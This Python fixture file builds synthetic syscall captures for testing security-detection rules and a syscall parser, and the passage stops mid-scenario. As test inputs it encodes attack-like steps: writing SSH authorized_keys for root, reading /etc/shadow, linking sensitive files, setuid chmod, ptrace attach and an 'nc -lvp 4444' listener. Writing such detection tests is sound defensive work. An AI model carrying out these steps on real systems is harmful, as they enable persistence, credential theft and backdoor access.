# SPDX-License-Identifier: Apache-2.0
"""The synthesised captures of scapgen.py: (name, builder) pairs in SCENARIOS.

Layouts: "old" captures are written as a 2022 driver wrote them (enter and exit events, the
parameter lists sysdig 0.29.3 knows, which are prefixes of the current schemas): these are
compared field by field against sysdig 0.29.3 (tests/sysdig_diff). "head" captures hold
what current drivers write (exit events only, every parameter of the current schema, codes
sysdig 0.29.3 does not know): used by the rule tests only (tests/scapgen/rules.py).
"""

from scapgen import block as scapgen_block

AT_FDCWD = -100
# PPM open flags (events.md §4)
O_RDONLY, O_WRONLY, O_RDWR, O_CREAT, O_APPEND = 1, 2, 3, 4, 8
O_EXCL, O_NONBLOCK, O_TRUNC, O_DIRECTORY, O_CLOEXEC, O_TMPFILE = 32, 64, 256, 1024, 4096, 8192
O_F_CREATED = 1 << 14
# PPM clone flags
CL_FILES, CL_FS, CL_NEWNS, CL_NEWPID, CL_NEWNET, CL_SIGHAND, CL_THREAD, CL_VM = \
    1, 2, 1 << 5, 1 << 6, 1 << 4, 1 << 11, 1 << 13, 1 << 15
CL_NEWUSER, CL_CHILD_CLEARTID, CL_CHILD_SETTID, CL_SETTLS, CL_VFORK = \
    1 << 20, 1 << 23, 1 << 24, 1 << 25, 1 << 27
ENOENT, EACCES, EPERM, EEXIST, EINPROGRESS, ECONNREFUSED, EAGAIN = -2, -13, -1, -17, -115, -111, -11

ALICE_ENV = ["HOME=/home/alice", "USER=alice", "SHELL=/bin/bash", "TERM=xterm-256color",
             "PATH=/usr/local/bin:/usr/bin:/bin", "LANG=C.UTF-8"]
TTY = 34816  # /dev/pts/0 (136:0)


def world(c):
    """The process table shared by every capture."""
    c.thread(1, 1, 0, "systemd", "/sbin/init", ["splash"], "/", fds=[(0, "file", "/dev/null", 1)])
    c.thread(500, 500, 1, "sshd", "/usr/sbin/sshd", ["-D"], "/", sid=500,
             fds=[(3, "ipv4srv", "0.0.0.0", 22, "tcp"), (4, "ipv6srv", "::", 22, "tcp")])
    c.thread(510, 510, 500, "sshd", "sshd: alice [priv]", [], "/", sid=510,
             fds=[(4, "ipv4", "10.0.0.9", 50022, "10.0.0.5", 22, "tcp")])
    c.thread(600, 600, 510, "bash", "-bash", [], "/home/alice", uid=1000, gid=1000,
             env=ALICE_ENV, loginuid=1000, sid=600, exepath="/usr/bin/bash",
             fds=[(0, "file", "/dev/pts/0", O_RDWR), (1, "file", "/dev/pts/0", O_RDWR),
                  (2, "file", "/dev/pts/0", O_RDWR), (255, "file", "/dev/pts/0", O_RDWR)])
    c.thread(700, 700, 1, "nginx", "nginx: master process /usr/sbin/nginx", [], "/",
             exepath="/usr/sbin/nginx",
             fds=[(6, "ipv4srv", "0.0.0.0", 80, "tcp"), (7, "ipv6srv", "::", 80, "tcp"),
                  (2, "file", "/var/log/nginx/error.log", O_WRONLY | O_APPEND)])
    c.thread(701, 701, 700, "nginx", "nginx: worker process", [], "/", uid=33, gid=33,
             exepath="/usr/sbin/nginx",
             fds=[(6, "ipv4srv", "0.0.0.0", 80, "tcp"), (7, "ipv6srv", "::", 80, "tcp"),
                  (3, "epoll", "anon_inode:[eventpoll]"),
                  (10, "ipv4", "203.0.113.7", 41000, "10.0.0.5", 80, "tcp")])
    c.thread(702, 701, 700, "nginx", "nginx: worker process", [], "/", uid=33, gid=33,
             exepath="/usr/sbin/nginx")
    c.thread(800, 800, 1, "postgres", "/usr/lib/postgresql/15/bin/postgres",
             ["-D", "/var/lib/postgresql/15/main"], "/var/lib/postgresql/15/main", uid=999, gid=999,
             fds=[(5, "unix", 0xffff9a0000001000, 0, "/var/run/postgresql/.s.PGSQL.5432"),
                  (6, "fifo", "pipe:[4242]")])


def clone_x(c, sym, evtid, res, tid, pid, ptid, exe, args, comm, flags, cwd="/home/alice", uid=1000,
            gid=1000, vtid=None, vpid=None, n=20, extra=()):
    c.event(sym, evtid, res, exe, args, tid, pid, ptid, cwd, 1024, 0, 12, 8000, 2000, 0, comm,
            ["cpuset=/", "memory=/user.slice"], flags, uid, gid,
            tid if vtid is None else vtid, pid if vpid is None else vpid, *extra, n=n)


def execve_x(c, evtid, res, exe, args, pid, ptid, comm, cwd="/home/alice", env=ALICE_ENV, tty=TTY,
             pgid=None, loginuid=1000, flags=0, n=20, sym="PPME_SYSCALL_EXECVE_19_X", extra=()):
    c.event(sym, evtid, res, exe, args, evtid, pid, ptid, cwd, 1024, 0, 40, 9000, 3000, 0, comm,
            ["cpuset=/", "memory=/user.slice"], env, tty, pid if pgid is None else pgid, loginuid,
            flags, *extra, n=n)


def spawn(c, parent, child, exe, args, comm, path, ptid=None, cwd="/home/alice", uid=1000, gid=1000,
          env=ALICE_ENV, sym="FORK", loginuid=1000, tty=TTY, pexe="bash", pargs=(), pcomm="bash"):
    """parent forks child (both sides), child execs path."""
    E = {"FORK": ("PPME_SYSCALL_FORK_20_E", "PPME_SYSCALL_FORK_20_X"),
         "VFORK": ("PPME_SYSCALL_VFORK_20_E", "PPME_SYSCALL_VFORK_20_X"),
         "CLONE": ("PPME_SYSCALL_CLONE_20_E", "PPME_SYSCALL_CLONE_20_X")}[sym]
    fl = CL_CHILD_CLEARTID | CL_CHILD_SETTID
    c.event(E[0], parent)
    clone_x(c, E[1], parent, child, parent, parent, ptid or 1, pexe, list(pargs), pcomm, fl, cwd, uid, gid)
    clone_x(c, E[1], child, 0, child, child, parent, pexe, list(pargs), pcomm, fl, cwd, uid, gid)
    c.event("PPME_SYSCALL_EXECVE_19_E", child, path)
    execve_x(c, child, 0, exe, args, child, parent, comm, cwd, env, tty, loginuid=loginuid)


def procexit(c, tid, status=0):
    c.event("PPME_PROCEXIT_1_E", tid, status, status >> 8 if status > 0 else 0, 0, 0)


def s_proc(c):
    """Process lifecycle: fork/vfork/clone/clone3 parent and child sides, threads, execve
    (env, cwd, tty, loginuid; failed execve), execveat, procexit, credentials, namespaces,
    cwd changes."""
    world(c)
    # bash forks ls
    spawn(c, 600, 601, "ls", ["-la", "/tmp"], "ls", "/usr/bin/ls", ptid=510)
    c.event("PPME_SYSCALL_OPENAT_2_E", 601, AT_FDCWD, "/tmp", O_RDONLY | O_DIRECTORY | O_CLOEXEC | O_NONBLOCK, 0)
    c.event("PPME_SYSCALL_OPENAT_2_X", 601, 3, AT_FDCWD, "/tmp", O_RDONLY | O_DIRECTORY | O_CLOEXEC | O_NONBLOCK,
            0, 0x803, n=6)
    c.event("PPME_SYSCALL_CLOSE_E", 601, 3)
    c.event("PPME_SYSCALL_CLOSE_X", 601, 0)
    procexit(c, 601)
    # vfork: a failed execve (ENOENT) then a good one
    c.event("PPME_SYSCALL_VFORK_20_E", 600)
    clone_x(c, "PPME_SYSCALL_VFORK_20_X", 600, 602, 600, 600, 510, "-bash", [], "bash", CL_VM | CL_VFORK)
    clone_x(c, "PPME_SYSCALL_VFORK_20_X", 602, 0, 602, 602, 600, "-bash", [], "bash", CL_VM | CL_VFORK)
    c.event("PPME_SYSCALL_EXECVE_19_E", 602, "/usr/local/bin/idx")
    execve_x(c, 602, ENOENT, "-bash", [], 602, 600, "bash")
    c.event("PPME_SYSCALL_EXECVE_19_E", 602, "/usr/bin/id")
    execve_x(c, 602, 0, "id", ["-u"], 602, 600, "id")
    c.expect("all", "Basic Interactive Reconnaissance", "Notice",
             "Basic Interactive Reconnaissance | " +
             tail("execve", "alice", 1000, 1000, "id", "/usr/bin/id", "bash", "id -u", TTY, "0"))
    c.event("PPME_SYSCALL_WRITE_E", 602, 1, 5)
    c.event("PPME_SYSCALL_WRITE_X", 602, 5, b"1000\n")
    procexit(c, 602, 256)
    # nginx worker starts a thread (clone with CLONE_THREAD), both sides
    tfl = CL_VM | CL_FS | CL_FILES | CL_SIGHAND | CL_THREAD | CL_SETTLS | CL_CHILD_CLEARTID
    c.event("PPME_SYSCALL_CLONE_20_E", 701)
    clone_x(c, "PPME_SYSCALL_CLONE_20_X", 701, 703, 701, 701, 700, "nginx: worker process", [], "nginx", tfl, "/", 33, 33)
    clone_x(c, "PPME_SYSCALL_CLONE_20_X", 703, 0, 703, 701, 700, "nginx: worker process", [], "nginx", tfl, "/", 33, 33)
    c.event("PPME_SYSCALL_READ_E", 703, 10, 4096)
    c.event("PPME_SYSCALL_READ_X", 703, 18, b"GET / HTTP/1.1\r\n\r\n")
    # clone3 of bash, child in new pid+mount namespaces (unshare-like container start)
    c.event("PPME_SYSCALL_CLONE3_E", 600)
    clone_x(c, "PPME_SYSCALL_CLONE3_X", 600, 605, 600, 600, 510, "-bash", [], "bash",
            CL_NEWPID | CL_NEWNS | CL_CHILD_CLEARTID)
    clone_x(c, "PPME_SYSCALL_CLONE3_X", 605, 0, 605, 605, 600, "-bash", [], "bash",
            CL_NEWPID | CL_NEWNS | CL_CHILD_CLEARTID | (1 << 29), vtid=1, vpid=1)
    # execveat of a relative path (dirfd AT_FDCWD)
    # sysdig 0.29.3 crashes (SIGSEGV) on an execveat exit whose enter had a relative path or
    # AT_EMPTY_PATH: only the absolute form is compared
    c.event("PPME_SYSCALL_EXECVEAT_E", 605, AT_FDCWD, "/home/alice/bin/tool", 0)
    execve_x(c, 605, 0, "tool", ["--serve", "8080"], 605, 600, "tool", sym="PPME_SYSCALL_EXECVEAT_X")
    # credential changes
    c.event("PPME_SYSCALL_SETUID_E", 605, 0)
    c.event("PPME_SYSCALL_SETUID_X", 605, 0)
    c.event("PPME_SYSCALL_SETGID_E", 605, 27)
    c.event("PPME_SYSCALL_SETGID_X", 605, 0)
    c.event("PPME_SYSCALL_SETRESUID_E", 605, 1000, 33, -1)
    c.event("PPME_SYSCALL_SETRESUID_X", 605, 0)
    c.event("PPME_SYSCALL_SETRESGID_E", 605, 1000, 999, -1)
    c.event("PPME_SYSCALL_SETRESGID_X", 605, 0)
    c.event("PPME_SYSCALL_SETUID_E", 605, 0)
    c.event("PPME_SYSCALL_SETUID_X", 605, EPERM)
    # (the successful setuid(0) above made the thread root: no alert for it)
    TOOL = ("www-data", 33, 1000, "tool", "/home/alice/bin/tool", "bash", "tool --serve 8080", TTY)
    c.expect("all", "Non sudo setuid", "Notice",
             "Unexpected setuid call by non-sudo, non-root program | arg_uid=root " + tail("setuid", *TOOL))
    # namespaces
    c.event("PPME_SYSCALL_OPEN_E", 605, "/proc/1/ns/net", O_RDONLY, 0)
    c.event("PPME_SYSCALL_OPEN_X", 605, 3, "/proc/1/ns/net", O_RDONLY, 0, 4, n=5)
    c.event("PPME_SYSCALL_SETNS_E", 605, 3, CL_NEWNET)
    c.event("PPME_SYSCALL_SETNS_X", 605, 0)
    c.expect("all", "Change thread namespace", "Notice",
             "Namespace change (setns) by unexpected program | " + tail("setns", *TOOL))
    c.event("PPME_SYSCALL_UNSHARE_E", 605, CL_NEWNS | CL_NEWUSER)
    c.event("PPME_SYSCALL_UNSHARE_X", 605, 0)
    # cwd: chdir (absolute, relative, ..), fchdir
    c.event("PPME_SYSCALL_CHDIR_E", 605)
    c.event("PPME_SYSCALL_CHDIR_X", 605, 0, "/var/tmp")
    c.event("PPME_SYSCALL_CHDIR_E", 605)
    c.event("PPME_SYSCALL_CHDIR_X", 605, 0, "sub/dir")
    c.event("PPME_SYSCALL_CHDIR_E", 605)
    c.event("PPME_SYSCALL_CHDIR_X", 605, 0, "../other/")
    c.event("PPME_SYSCALL_CHDIR_E", 605)
    c.event("PPME_SYSCALL_CHDIR_X", 605, ENOENT, "/nonexistent")
    c.event("PPME_SYSCALL_OPEN_E", 605, "rel.txt", O_RDONLY, 0)
    c.event("PPME_SYSCALL_OPEN_X", 605, 4, "rel.txt", O_RDONLY, 0, 4, n=5)
    c.event("PPME_SYSCALL_OPEN_E", 605, "/etc", O_RDONLY | O_DIRECTORY, 0)
    c.event("PPME_SYSCALL_OPEN_X", 605, 5, "/etc", O_RDONLY | O_DIRECTORY, 0, 4, n=5)
    c.event("PPME_SYSCALL_FCHDIR_E", 605, 5)
    c.event("PPME_SYSCALL_FCHDIR_X", 605, 0)
    c.event("PPME_SYSCALL_OPEN_E", 605, "hostname", O_RDONLY, 0)
    c.event("PPME_SYSCALL_OPEN_X", 605, 6, "hostname", O_RDONLY, 0, 4, n=5)
    # a child of the clone3 child, then the parent dies: the grandchild gets a new parent
    spawn(c, 605, 606, "sleep", ["60"], "sleep", "/usr/bin/sleep", ptid=600, uid=0, gid=27,
          cwd="/etc", pexe="tool", pargs=["--serve", "8080"], pcomm="tool")
    procexit(c, 605)
    c.event("PPME_SYSCALL_NANOSLEEP_E", 606, 60000000000)
    c.event("PPME_SYSCALL_NANOSLEEP_X", 606, 0)
    # the thread of nginx exits; a new event of the main thread
    procexit(c, 703)
    c.event("PPME_SYSCALL_READ_E", 701, 10, 4096)
    c.event("PPME_SYSCALL_READ_X", 701, 0, b"")
    # an event of a thread that the process table does not know
    c.event("PPME_SYSCALL_GETCWD_E", 4242)
    c.event("PPME_SYSCALL_GETCWD_X", 4242, 5, "/opt")


def s_files(c):
    """File syscalls: open/openat/openat2/creat with flags and failures, read/write, dup,
    fcntl, pipe, the *at family, rename/link/symlink, chmod family, mmap/mprotect,
    userfaultfd, bpf, ptrace."""
    world(c)
    PYT = tail("%s", "alice", 1000, 1000, "python3", "/usr/bin/python3", "bash", "python3 app.py", TTY)
    spawn(c, 600, 610, "python3", ["app.py"], "python3", "/usr/bin/python3", ptid=510)
    t = 610
    E, X = "PPME_SYSCALL_OPEN_E", "PPME_SYSCALL_OPEN_X"
    c.event(E, t, "/etc/passwd", O_RDONLY | O_CLOEXEC, 0)
    c.event(X, t, 3, "/etc/passwd", O_RDONLY | O_CLOEXEC, 0, 0x803, n=5)
    c.event("PPME_SYSCALL_READ_E", t, 3, 4096)
    c.event("PPME_SYSCALL_READ_X", t, 32, b"root:x:0:0:root:/root:/bin/bash\n")
    c.event(E, t, "/etc/shadow", O_RDONLY, 0)
    c.event(X, t, EACCES, "/etc/shadow", O_RDONLY, 0, 0, n=5)
    c.event(E, t, "/tmp/out.log", O_WRONLY | O_CREAT | O_TRUNC, 0o644)
    c.event(X, t, 4, "/tmp/out.log", O_WRONLY | O_CREAT | O_TRUNC | O_F_CREATED, 0o644, 0x803, n=5)
    c.event("PPME_SYSCALL_WRITE_E", t, 4, 6)
    c.event("PPME_SYSCALL_WRITE_X", t, 6, b"hello\n")
    c.event(E, t, "/usr/local/bin/run.sh", O_RDWR | O_CREAT | O_EXCL, 0o755)
    c.event(X, t, EEXIST, "/usr/local/bin/run.sh", O_RDWR | O_CREAT | O_EXCL, 0o755, 0, n=5)
    c.event(E, t, "/var/log/app/../app.log", O_WRONLY | O_APPEND | O_NONBLOCK, 0)
    c.event(X, t, 5, "/var/log/app/../app.log", O_WRONLY | O_APPEND | O_NONBLOCK, 0, 0x803, n=5)
    c.event(E, t, "data//x.db", O_RDWR, 0)
    c.event(X, t, ENOENT, "data//x.db", O_RDWR, 0, 0, n=5)
    # openat: AT_FDCWD relative, dirfd relative, absolute, failure
    OE, OX = "PPME_SYSCALL_OPENAT_2_E", "PPME_SYSCALL_OPENAT_2_X"
    c.event(OE, t, AT_FDCWD, "notes.txt", O_RDONLY, 0)
    c.event(OX, t, 6, AT_FDCWD, "notes.txt", O_RDONLY, 0, 0x803, n=6)
    c.event(OE, t, AT_FDCWD, "/etc/ssh", O_RDONLY | O_DIRECTORY, 0)
    c.event(OX, t, 7, AT_FDCWD, "/etc/ssh", O_RDONLY | O_DIRECTORY, 0, 0x803, n=6)
    c.event(OE, t, 7, "sshd_config", O_RDONLY, 0)
    c.event(OX, t, 8, 7, "sshd_config", O_RDONLY, 0, 0x803, n=6)
    c.event(OE, t, 7, "ssh_host_rsa_key", O_RDONLY, 0)
    c.event(OX, t, EACCES, 7, "ssh_host_rsa_key", O_RDONLY, 0, 0, n=6)
    c.event(OE, t, AT_FDCWD, "/root/.ssh/authorized_keys", O_WRONLY | O_APPEND | O_CREAT, 0o600)
    c.event(OX, t, 9, AT_FDCWD, "/root/.ssh/authorized_keys", O_WRONLY | O_APPEND | O_CREAT, 0o600, 0x803, n=6)
    c.expect("all", "Adding ssh keys to authorized_keys", "Warning",
             "Adding ssh keys to authorized_keys | file=/root/.ssh/authorized_keys " + PYT % "openat")
    c.event(OE, t, AT_FDCWD, "/tmp", O_RDWR | O_TMPFILE, 0o600)
    c.event(OX, t, 11, AT_FDCWD, "/tmp", O_RDWR | O_TMPFILE, 0o600, 0x803, n=6)
    # an O_TMPFILE open names the directory: fd.name /tmp, fd.directory / (not O_DIRECTORY)
    c.expect("all", "Write below root", "Error",
             "File below / or /root opened for writing | file=/tmp " + PYT % "openat")
    # openat2 with resolve flags
    c.event("PPME_SYSCALL_OPENAT2_E", t, 7, "moduli", O_RDONLY | O_CLOEXEC, 0, 0x1 | 0x8)
    c.event("PPME_SYSCALL_OPENAT2_X", t, 12, 7, "moduli", O_RDONLY | O_CLOEXEC, 0, 0x1 | 0x8)
    c.event("PPME_SYSCALL_OPENAT2_E", t, AT_FDCWD, "/etc/sudoers", O_RDWR, 0, 0)
    c.event("PPME_SYSCALL_OPENAT2_X", t, EACCES, AT_FDCWD, "/etc/sudoers", O_RDWR, 0, 0)
    # creat
    c.event("PPME_SYSCALL_CREAT_E", t, "/tmp/new.bin", 0o700)
    c.event("PPME_SYSCALL_CREAT_X", t, 13, "/tmp/new.bin", 0o700, 0x803)
    # dup (old event used for dup/dup2/dup3 by older drivers), fcntl F_DUPFD, close
    c.event("PPME_SYSCALL_DUP_E", t, 3)
    c.event("PPME_SYSCALL_DUP_X", t, 14)
    c.event("PPME_SYSCALL_READ_E", t, 14, 100)
    c.event("PPME_SYSCALL_READ_X", t, 0, b"")
    c.event("PPME_SYSCALL_DUP_E", t, 99)
    c.event("PPME_SYSCALL_DUP_X", t, -9)
    c.event("PPME_SYSCALL_FCNTL_E", t, 4, 1)
    c.event("PPME_SYSCALL_FCNTL_X", t, 15)
    c.event("PPME_SYSCALL_WRITE_E", t, 15, 3)
    c.event("PPME_SYSCALL_WRITE_X", t, 3, b"abc")
    c.event("PPME_SYSCALL_CLOSE_E", t, 15)
    c.event("PPME_SYSCALL_CLOSE_X", t, 0)
    c.event("PPME_SYSCALL_CLOSE_E", t, 15)
    c.event("PPME_SYSCALL_CLOSE_X", t, -9)
    # pipe
    c.event("PPME_SYSCALL_PIPE_E", t)
    c.event("PPME_SYSCALL_PIPE_X", t, 0, 16, 17, 777)
    c.event("PPME_SYSCALL_WRITE_E", t, 17, 4)
    c.event("PPME_SYSCALL_WRITE_X", t, 4, b"ping")
    c.event("PPME_SYSCALL_READ_E", t, 16, 4)
    c.event("PPME_SYSCALL_READ_X", t, 4, b"ping")
    # *at family and friends (exit events carry everything; enters are empty)
    def pair(name, *args, e=()):
        c.event("PPME_SYSCALL_%s_E" % name, t, *e)
        c.event("PPME_SYSCALL_%s_X" % name, t, *args)
    pair("UNLINKAT_2", 0, AT_FDCWD, "out.log", 0)
    pair("UNLINKAT_2", 0, 7, "old_key", 0)
    pair("UNLINKAT_2", 0, AT_FDCWD, "/var/tmp/dir", 0x200)
    pair("UNLINKAT_2", ENOENT, AT_FDCWD, "/nope", 0)
    pair("UNLINK_2", 0, "/tmp/new.bin")
    pair("RENAMEAT", 0, AT_FDCWD, "a.txt", 7, "b.txt")
    pair("RENAMEAT2", 0, AT_FDCWD, "/tmp/x", AT_FDCWD, "/usr/bin/x", 1)
    c.expect("all", "Modify binary dirs", "Error",
             "File below known binary directory renamed/removed | file=<NA> pcmdline=bash evt_args=res=0 "
             "olddirfd=-100(AT_FDCWD) oldpath=/tmp/x newdirfd=-100(AT_FDCWD) newpath=/usr/bin/x "
             "flags=1(RENAME_NOREPLACE) evt_type=renameat2 " + PYT % "renameat2")
    pair("RENAME", 0, "/var/log/syslog", "/var/log/syslog.1")
    pair("MKDIRAT", 0, AT_FDCWD, "build", 0o755)
    pair("MKDIRAT", EEXIST, 7, "keys", 0o700)
    pair("MKDIR_2", 0, "/tmp/.hidden", e=(0o700,))
    pair("RMDIR_2", 0, "/tmp/.hidden")
    pair("SYMLINKAT", 0, "/etc/shadow", AT_FDCWD, "shadow_link")
    for rs in ("falco", "all"):
        c.expect(rs, "Create Symlink Over Sensitive Files", "Warning",
                 "Symlinks created over sensitive files | target=/etc/shadow linkpath=/home/alice/shadow_link " +
                 PYT % "symlinkat")
    pair("SYMLINKAT", 0, "/etc", 7, "etc_link")
    for rs in ("falco", "all"):
        c.expect(rs, "Create Symlink Over Sensitive Files", "Warning",
                 "Symlinks created over sensitive files | target=/etc linkpath=/etc/ssh/etc_link " + PYT % "symlinkat")
    pair("SYMLINK", 0, "/root/.ssh", "/tmp/sshdir")
    pair("LINKAT_2", 0, AT_FDCWD, "/etc/passwd", AT_FDCWD, "/tmp/pw", 0)
    pair("LINKAT_2", 0, 7, "sshd_config", AT_FDCWD, "cfg", 0x400)
    pair("LINK_2", 0, "/etc/sudoers", "/tmp/sud")
    for rs in ("falco", "all"):
        c.expect(rs, "Create Hardlink Over Sensitive Files", "Warning",
                 "Hardlinks created over sensitive files | target=/etc/sudoers linkpath=/tmp/sud " + PYT % "link")
    pair("CHMOD", 0, "/tmp/run.sh", 0o4755)
    c.expect("all", "Set Setuid or Setgid bit", "Notice",
             "Setuid or setgid bit is set via chmod | fd=<NA> filename=/tmp/run.sh mode=S_IXOTH|S_IROTH|S_IXGRP|"
             "S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID " + PYT % "chmod")
    pair("CHMOD", EPERM, "/usr/bin/passwd", 0o777)
    pair("FCHMOD", 0, 4, 0o2750)
    c.expect("all", "Set Setuid or Setgid bit", "Notice",
             "Setuid or setgid bit is set via chmod | fd=<f>/tmp/out.log filename=<NA> mode=S_IXGRP|S_IRGRP|"
             "S_IXUSR|S_IWUSR|S_IRUSR|S_ISGID " + PYT % "fchmod")
    pair("FCHMODAT", 0, AT_FDCWD, "script.sh", 0o755)
    pair("FCHMODAT", 0, 7, "moduli", 0o1777)
    # memory: mmap of a file fd, mprotect RWX, munmap
    c.event("PPME_SYSCALL_MMAP_E", t, 0, 8192, 1 | 4, 1 | 2, 3, 0)
    c.event("PPME_SYSCALL_MMAP_X", t, 0x7f0000001000, 20000, 5000, 0)
    c.event("PPME_SYSCALL_MPROTECT_E", t, 0x7f0000001000, 4096, 1 | 2 | 4)
    c.event("PPME_SYSCALL_MPROTECT_X", t, 0)
    c.event("PPME_SYSCALL_MUNMAP_E", t, 0x7f0000001000, 8192)
    c.event("PPME_SYSCALL_MUNMAP_X", t, 0, 19000, 4900, 0)
    # ptrace (old layout: request and pid in the enter event)
    c.event("PPME_SYSCALL_PTRACE_E", t, 11, 800)
    c.event("PPME_SYSCALL_PTRACE_X", t, 0, (0, "UINT64", 0), (0, "UINT64", 0))
    for rs in ("falco", "all"):
        c.expect(rs, "PTRACE attached to process", "Warning",
                 "Detected ptrace PTRACE_ATTACH attempt | proc_pcmdline=bash " + PYT % "ptrace")
    c.event("PPME_SYSCALL_PTRACE_E", t, 3, 800)
    c.event("PPME_SYSCALL_PTRACE_X", t, 0, (0, "UINT64", 0x400000), (0, "UINT64", 0x4242))
    # close everything still open; fd.* after close
    for fd in (3, 4, 5, 6):
        c.event("PPME_SYSCALL_CLOSE_E", t, fd)
        c.event("PPME_SYSCALL_CLOSE_X", t, 0)
    procexit(c, 610)
    # userfaultfd in a process of its own: sysdig 0.29.3 does not add its fd to the table
    # (current libsinsp does), so proc.fdopencount differs for the rest of the process.
    # (The old bpf layout, 296/297, is not comparable: sysdig 0.29.3 crashes on evt.res of
    # its DYN res_or_fd parameter; it is in the rule captures only.)
    spawn(c, 600, 611, "uffd", [], "uffd", "/usr/local/bin/uffd", ptid=510)
    c.event("PPME_SYSCALL_USERFAULTFD_E", 611)
    UF = ("Unprivileged Delegation of Page Faults Handling to a Userspace Process", "Critical",
          "An userfaultfd syscall was successfully executed by an unprivileged user | " +
          tail("userfaultfd", "alice", 1000, 1000, "uffd", "/usr/local/bin/uffd", "bash", "uffd", TTY))
    c.event("PPME_SYSCALL_USERFAULTFD_X", 611, 3, O_CLOEXEC | O_NONBLOCK)
    c.expect("all", *UF)
    c.event("PPME_SYSCALL_USERFAULTFD_E", 611)
    c.event("PPME_SYSCALL_USERFAULTFD_X", 611, EPERM, 0)
    # the rule's "(evt.rawres >= 0 or evt.res != -1)": evt.res is "EPERM", never "-1"
    c.expect("all", *UF)
    procexit(c, 611)


def s_net(c):
    """Sockets: IPv4/IPv6/unix, TCP/UDP, client and server side, connect failures,
    sendto/recvfrom/sendmsg/recvmsg, socketpair, shutdown, getsockopt."""
    world(c)
    spawn(c, 600, 620, "curl", ["-s", "http://93.184.216.34/"], "curl", "/usr/bin/curl", ptid=510)
    t = 620
    S = lambda *a: (c.event("PPME_SOCKET_SOCKET_E", t, *a))
    # TCP IPv4 client, non-blocking connect
    S(2, 1 | 0x800, 6)
    c.event("PPME_SOCKET_SOCKET_X", t, 3)
    c.event("PPME_SOCKET_CONNECT_E", t, 3, ("inet", "93.184.216.34", 80))
    c.event("PPME_SOCKET_CONNECT_X", t, EINPROGRESS, ("inet", "10.0.0.5", 40001, "93.184.216.34", 80))
    c.event("PPME_SOCKET_SENDTO_E", t, 3, 18, None)
    c.event("PPME_SOCKET_SENDTO_X", t, 18, b"GET / HTTP/1.1\r\n\r\n")
    c.event("PPME_SOCKET_RECVFROM_E", t, 3, 4096)
    c.event("PPME_SOCKET_RECVFROM_X", t, 17, b"HTTP/1.1 200 OK\r\n", None)
    # refused connect to a local port
    S(2, 1, 6)
    c.event("PPME_SOCKET_SOCKET_X", t, 4)
    c.event("PPME_SOCKET_CONNECT_E", t, 4, ("inet", "127.0.0.1", 5432))
    c.event("PPME_SOCKET_CONNECT_X", t, ECONNREFUSED, ("inet", "127.0.0.1", 40002, "127.0.0.1", 5432))
    # UDP IPv6: unconnected sendto with a tuple, recvfrom with a tuple
    S(10, 2, 17)
    c.event("PPME_SOCKET_SOCKET_X", t, 5)
    c.event("PPME_SOCKET_SENDTO_E", t, 5, 30, ("inet6", "2001:db8::5", 50000, "2001:4860:4860::8888", 53))
    c.event("PPME_SOCKET_SENDTO_X", t, 30, b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00")
    c.event("PPME_SOCKET_RECVFROM_E", t, 5, 512)
    c.event("PPME_SOCKET_RECVFROM_X", t, 12, b"\x12\x34\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00",
            ("inet6", "2001:4860:4860::8888", 53, "2001:db8::5", 50000))
    # UDP IPv4 sendmsg / recvmsg
    S(2, 2, 17)
    c.event("PPME_SOCKET_SOCKET_X", t, 6)
    c.event("PPME_SOCKET_SENDMSG_E", t, 6, 4, ("inet", "0.0.0.0", 0, "8.8.8.8", 53))
    c.event("PPME_SOCKET_SENDMSG_X", t, 4, b"ping")
    c.event("PPME_SOCKET_RECVMSG_E", t, 6)
    c.event("PPME_SOCKET_RECVMSG_X", t, 4, 4, b"pong", ("inet", "8.8.8.8", 53, "10.0.0.5", 43000))
    # unix stream socket to the docker socket
    S(1, 1, 0)
    c.event("PPME_SOCKET_SOCKET_X", t, 7)
    c.event("PPME_SOCKET_CONNECT_E", t, 7, ("unix", "/var/run/docker.sock"))
    c.event("PPME_SOCKET_CONNECT_X", t, 0, ("unix", 0xffff9a0000002000, 0xffff9a0000003000, "/var/run/docker.sock"))
    c.event("PPME_SYSCALL_WRITE_E", t, 7, 22)
    c.event("PPME_SYSCALL_WRITE_X", t, 22, b"GET /containers/json\r\n")
    # socketpair
    c.event("PPME_SOCKET_SOCKETPAIR_E", t, 1, 1, 0)
    c.event("PPME_SOCKET_SOCKETPAIR_X", t, 0, 8, 9, 0xffff9a0000004000, 0xffff9a0000005000)
    # getsockopt SO_ERROR on the connecting socket, shutdown, close
    c.event("PPME_SOCKET_GETSOCKOPT_E", t)
    c.event("PPME_SOCKET_GETSOCKOPT_X", t, 0, 3, 1, 4, (10, "ERRNO", 0), 4)
    c.event("PPME_SOCKET_SHUTDOWN_E", t, 3, 1)
    c.event("PPME_SOCKET_SHUTDOWN_X", t, 0)
    for fd in (3, 4, 5, 6, 7):
        c.event("PPME_SYSCALL_CLOSE_E", t, fd)
        c.event("PPME_SYSCALL_CLOSE_X", t, 0)
    # server side: nginx worker accepts an IPv4 and an IPv6 client
    w = 701
    c.event("PPME_SOCKET_ACCEPT_5_E", w)
    c.event("PPME_SOCKET_ACCEPT_5_X", w, 11, ("inet", "198.51.100.20", 51234, "10.0.0.5", 80), 0, 0, 511)
    c.event("PPME_SOCKET_RECVFROM_E", w, 11, 1024)
    c.event("PPME_SOCKET_RECVFROM_X", w, 16, b"GET /x HTTP/1.0\n", None)
    c.event("PPME_SOCKET_ACCEPT4_5_E", w, 0x800)
    c.event("PPME_SOCKET_ACCEPT4_5_X", w, 12, ("inet6", "2001:db8::99", 51000, "2001:db8::5", 80), 0, 1, 511)
    c.event("PPME_SOCKET_ACCEPT4_5_E", w, 0x800)
    c.event("PPME_SOCKET_ACCEPT4_5_X", w, EAGAIN, None, 0, 0, 511)
    c.event("PPME_SYSCALL_WRITE_E", w, 12, 8)
    c.event("PPME_SYSCALL_WRITE_X", w, 8, b"HTTP/1.0")
    # a new listening socket (bind shell style): socket, bind, listen, accept
    spawn(c, 600, 621, "nc", ["-lvp", "4444"], "nc", "/usr/bin/nc", ptid=510)
    c.expect("all", "Launch Suspicious Network Tool on Host", "Notice",
             "Network tool launched on host | " +
             tail("execve", "alice", 1000, 1000, "nc", "/usr/bin/nc", "bash", "nc -lvp 4444", TTY, "0"))
    t = 621
    S(2, 1, 0)
    c.event("PPME_SOCKET_SOCKET_X", t, 3)
    c.event("PPME_SOCKET_BIND_E", t, 3)
